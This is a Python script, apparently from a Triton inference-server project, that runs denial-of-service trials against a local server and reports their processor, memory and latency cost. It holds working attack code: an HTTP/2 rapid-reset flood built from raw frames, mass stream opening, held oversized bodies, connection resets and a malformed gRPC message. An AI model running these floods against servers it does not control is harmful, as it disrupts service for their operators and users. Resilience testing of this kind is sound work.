# SPDX-License-Identifier: Apache-2.0
"""Attacks that Triton's ports leave to a proxy, and clients that do not listen: the cost of each to a running server.

    python scripts/attacks.py --http 127.0.0.1:8000 --grpc 127.0.0.1:8001 --pid PID

`./build.sh serve` tells the process id of tritonserver. Each line: processor seconds and MiB of that process (the
memory while the try lasts), and the seconds that a good request took meanwhile. The figures are in docs/reliability.md.
"""

from __future__ import annotations

import argparse
import asyncio
import http.client
import random
import socket
import struct
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass

import grpc  # type: ignore[import-untyped]
import psutil

from triton_omni_client import OmniClient, Request
from triton_omni_client.aio import AsyncOmniClient
from triton_omni_client.errors import OmniClientError
from triton_omni_client.retry import NO_RETRY

UNARY = "/v2/models/qwen2_5_omni_unary"
GOOD = rb"""{"text_input": "hello", "sampling_parameters":
 "{\"seed\": 7, \"modalities\": [\"text\"], \"thinker\": {\"max_tokens\": 6}}"}"""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS = 1, 3, 4


@dataclass(frozen=True)
class Server:
    """A running server: `HOST:PORT` of two services, and tritonserver's process."""

    http: str
    grpc: str
    pid: int

    def cpu_s(self) -> float:
        """Processor seconds so far."""
        times = psutil.Process(self.pid).cpu_times()
        return times.user + times.system

    def mib(self) -> float:
        """Main memory now."""
        return psutil.Process(self.pid).memory_info().rss / 2**20

    def good_s(self) -> str:
        """How long a good request takes, and its status."""
        begin, connection = time.monotonic(), http.client.HTTPConnection(self.http, timeout=100)
        connection.request("POST", f"{UNARY}/generate", GOOD, {"Content-Type": "application/json"})
        answer = connection.getresponse()
        answer.read()
        connection.close()
        return f"{time.monotonic() - begin:.2f} s ({answer.status})"


def connect(address: str) -> socket.socket:
    """A connection to `HOST:PORT`."""
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=100)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def call(method: str, number: int) -> bytes:
    """The frame that opens a gRPC call, of this number on its connection."""
    fields = {
        ":path": f"/inference.GRPCInferenceService/{method}",
        ":authority": "x",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    literals = (f"\0{chr(len(name))}{name}{chr(len(value))}{value}" for name, value in fields.items())
    return frame(HEADERS, 4, 2 * number + 1, b"\x83\x86" + "".join(literals).encode())


@contextmanager
def silent(server: Server) -> Iterator[None]:
    """1,500 connections that say nothing."""
    with ExitStack() as stack:
        for number in range(1500):
            stack.enter_context(connect((server.http, server.grpc)[number % 2]))
        yield


@contextmanager
def held_bodies(server: Server) -> Iterator[None]:
    """20 HTTP bodies of 80 MB, held open."""
    head = f"POST {UNARY}/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 80000001\r\n\r\n".encode()
    with ExitStack() as stack:
        for _ in range(20):
            stack.enter_context(connect(server.http)).sendall(head + b" " * 80_000_000)
        yield


@contextmanager
def open_streams(server: Server) -> Iterator[None]:
    """10,000 gRPC streams, opened on one connection."""
    with connect(server.grpc) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        connection.sendall(b"".join(call("ModelStreamInfer", number) for number in range(10_000)))
        time.sleep(1)
        yield


@contextmanager
def rapid_reset(server: Server) -> Iterator[None]:
    """20,000 gRPC calls, opened and reset."""
    with connect(server.grpc) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        for number in range(20_000):
            connection.sendall(call("ServerLive", number) + frame(RESET, 0, 2 * number + 1, b"\0\0\0\x08"))
        yield


@contextmanager
def resets(server: Server) -> Iterator[None]:
    """2,000 HTTP requests, each reset at once."""
    head = f"POST {UNARY}/generate HTTP/1.1\r\nHost: x\r\nContent-Length: {len(GOOD)}\r\n\r\n".encode()
    for _ in range(2000):
        with connect(server.http) as connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.sendall(head + GOOD)
    yield


@contextmanager
def empty_inputs(server: Server) -> Iterator[None]:
    """5,000,000 empty inputs in a gRPC message of 10 MB."""
    with grpc.insecure_channel(server.grpc) as channel:
        infer = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
        infer.future(b"\x2a\x00" * 5_000_000, timeout=100).exception()
        yield


def spoken(seed: int, codes: int) -> Request:
    """A request for so many codes of speech, 50 a second."""
    length = {"max_tokens": codes, "min_tokens": codes}
    return Request(text="hello", seed=seed, thinker={"max_tokens": 20}, talker=length)


async def _cancel(client: AsyncOmniClient, seed: int, seconds: float) -> None:
    try:
        async with asyncio.timeout(seconds), client.stream(spoken(seed, 40)) as deltas:
            async for _ in deltas:
                pass
    except (TimeoutError, OmniClientError):
        pass


@contextmanager
def cancels(server: Server) -> Iterator[None]:
    """240 requests for speech, 16 at a time, each cancelled at a random moment within 3 s."""
    moments = random.Random(1)

    async def run() -> None:
        async with AsyncOmniClient(server.grpc, retry=NO_RETRY) as client:
            for wave in range(15):
                tries = ((16 * wave + number, 3 * moments.random() ** 2) for number in range(16))
                await asyncio.gather(*(_cancel(client, seed, seconds) for seed, seconds in tries))

    asyncio.run(run())
    yield


@contextmanager
def unread(server: Server) -> Iterator[None]:
    """70 requests for 6 s of speech, whose streams nobody reads."""
    with OmniClient(server.grpc, retry=NO_RETRY) as client, ExitStack() as stack:
        for seed in range(70):
            stack.enter_context(client.stream(spoken(seed, 300)))
        time.sleep(2)
        yield


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--http", default="127.0.0.1:8000", metavar="HOST:PORT")
    parser.add_argument("--grpc", default="127.0.0.1:8001", metavar="HOST:PORT")
    parser.add_argument("--pid", type=int, required=True, metavar="PID", help="of tritonserver")
    server = Server(**vars(parser.parse_args()))
    print(f"before: good {server.good_s()}")
    for trial in (silent, open_streams, rapid_reset, resets, held_bodies, empty_inputs, cancels, unread):
        cpu_s, mib = server.cpu_s(), server.mib()
        with trial(server):
            told = f"{server.mib() - mib:+.0f} MiB, beside {server.good_s()}"
        print(f"{trial.__doc__} {server.cpu_s() - cpu_s:.1f} s, {told}, after {server.good_s()}", flush=True)


if __name__ == "__main__":
    main()
